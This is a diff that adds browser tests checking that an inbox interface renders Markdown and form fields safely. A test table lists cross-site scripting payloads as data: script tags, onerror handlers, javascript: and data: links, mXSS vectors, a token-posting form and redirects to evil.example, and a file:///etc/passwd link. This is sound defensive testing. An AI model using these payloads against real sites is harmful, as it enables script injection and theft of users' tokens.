@@ -363,6 +363,111 @@ describe.skipIf(executablePath === undefined)('the form of the inbox', { timeout
     expect(await enabled.count()).toBe(0);
   });
 
+  test('W5: Markdown is shown as what it is, below the headings of the page', async () => {
+    const markdown = [
+      '# Title\n\nSome **bold**, ~~old~~ and `code` with https://example.com/a?b=1&c=2.',
+      '| a | b |\n| :- | -: |\n| 1 | 2 |',
+      '- one\n- two\n\n1. first\n\n> quoted\n\n```ts\nconst a = "<b>";\n```',
+      '![A chart](https://example.com/chart.png) [![](https://example.com/x.png)](https://example.com/page)',
+    ].join('\n\n');
+    const page = await opened({ markdown });
+    const shown = page.locator('.markdown');
+    expect(await shown.locator('h3').innerText()).toBe('Title');
+    expect(await shown.locator('h1, h2, img').count()).toBe(0);
+    expect(await shown.locator('strong, del, table, ul, ol, blockquote, pre').count()).toBe(7);
+    expect((await shown.locator('pre').innerText()).trim()).toBe('const a = "<b>";');
+    const links = await shown.locator('a').all();
+    const attributes = await Promise.all(
+      links.map(async (link) => [
+        await link.innerText(),
+        await link.getAttribute('href'),
+        await link.getAttribute('target'),
+        await link.getAttribute('rel'),
+      ]),
+    );
+    const elsewhere = ['_blank', 'noopener noreferrer'];
+    expect(attributes).toEqual([
+      ['https://example.com/a?b=1&c=2', 'https://example.com/a?b=1&c=2', ...elsewhere],
+      ['A chart (image)', 'https://example.com/chart.png', ...elsewhere],
+      ['https://example.com/x.png', 'https://example.com/page', ...elsewhere],
+    ]);
+  });
+
+  test.for([
+    ['a script', '<script>alert(1)</script>'],
+    ['an event handler', '<img src=x onerror=alert(1)>'],
+    ['a link that is a script', '[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) <javascript:alert(1)>'],
+    ['a script behind an entity', '[click](&#106;avascript:alert(1)) [x](java&#10;script:alert(1))'],
+    ['data', '[click](data:text/html,<script>alert(1)</script>) ![x](data:image/svg+xml,<svg/onload=alert(1)>)'],
+    ['a vbscript and a file', '[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x)'],
+    ['svg', '<svg><script>alert(1)</script><style><img src=x onerror=alert(1)></style></svg>'],
+    ['a style', '<style>*{display:none}</style><p style="position:fixed">x</p>'],
+    ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>'],
+    ['a form', '<form action="https://evil.example"><input name=token><button>Send</button></form>'],
+    ['names that clobber', '<a id=app name=body>x</a><form id=kept name=sent></form>'],
+    [
+      'mXSS in MathML',
+      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    ],
+    ['mXSS in noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
+    ['mXSS in a template', '<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>'],
+    [
+      'an attribute that breaks out',
+      '![a" onerror="alert(1)](https://x.example/"onerror="alert(1)) [x](https://x.example "t\" onclick=\"alert(1)")',
+    ],
+    [
+      'a base and a meta',
+      '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
+    ],
+    ['a definition that is used elsewhere', '[x][y]\n\n[y]: javascript:alert(1)'],
+    ['an address without a protocol', '[x](//evil.example) [y](/link#token) [z](?q=1)'],
+  ] as const)('W5: %s in Markdown does nothing, and is text', async ([, markdown]) => {
+    const page = await opened({ markdown });
+    const shown = page.locator('.markdown');
+    await shown.waitFor({ state: 'attached' });
+    const forbidden =
+      'script, style, svg, math, iframe, object, embed, form, input, button, img, template, base, meta, noscript';
+    expect(await shown.locator(forbidden).count()).toBe(0);
+    const names = await page.evaluate<readonly string[]>(
+      `[...document.querySelectorAll('.markdown *')].flatMap((one) => one.getAttributeNames())`,
+    );
+    expect(names.filter((name) => !['href', 'target', 'rel', 'dir', 'start', 'align'].includes(name))).toEqual([]);
+    const hrefs = await page.evaluate<readonly string[]>(
+      `[...document.querySelectorAll('.markdown a')].map((one) => one.getAttribute('href'))`,
+    );
+    expect(hrefs.filter((href) => !/^(?:https?|mailto):/.test(href))).toEqual([]);
+    expect(page.url()).toBe(`${server.origin}/`);
+  });
+
+  test('W5: long lines, a text that reverses itself, and a very long one fit a phone and are readable', async () => {
+    const markdown = `${'long'.repeat(500)}\n\n\`${'code'.repeat(500)}\`\n\nsafe\u202egpj.exe\n\n| ${'cell '.repeat(40)} | b |\n| - | - |`;
+    const page = await opened({ markdown }, PHONE);
+    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
+    expect(await page.locator('.markdown').innerText()).toContain('safe\\u202egpj.exe');
+    const huge = await opened({ markdown: '*'.repeat(2_000_000) });
+    expect(await huge.locator('.markdown pre').count()).toBe(1);
+  });
+
+  test('W5: nothing in a question, in its schema or in its arguments runs or reverses what is around it', async () => {
+    const bad = '<img src=x onerror=alert(1)>\u202e';
+    const schema = {
+      type: 'object',
+      properties: { [bad]: { type: 'string', title: bad, description: bad }, pick: { enum: [bad, 'b'] } },
+      required: [bad],
+    };
+    const page = await asked({ title: 'Odd', schema });
+    await send(page);
+    const action = { name: bad, args: { [bad]: bad, nested: { [bad]: [bad] } }, description: bad };
+    const review = { actionName: bad, allowedDecisions: ['approve', 'edit'] };
+    const other = await asked({ value: { actionRequests: [action], reviewConfigs: [review] } });
+    await other.locator('[data-action=edit]').click();
+    for (const one of [page, other]) {
+      expect(await one.locator('main img').count()).toBe(0);
+      expect(await one.locator('form').innerText()).toContain('<img src=x onerror=alert(1)>\\u202e');
+      expect(await one.locator('form').innerText()).not.toContain('\u202e');
+    }
+  });
+
   const FORMS: readonly (readonly [string, Partial<Interrupt>, ((page: Page) => Promise<void>)?])[] = [
     ['fields', { title: 'The delivery', schema: delivery }, send],
     ['approval', { value: sendEmail, schema: json(approval(email, { remember: ['tool'] })), confirm: 'send' }],
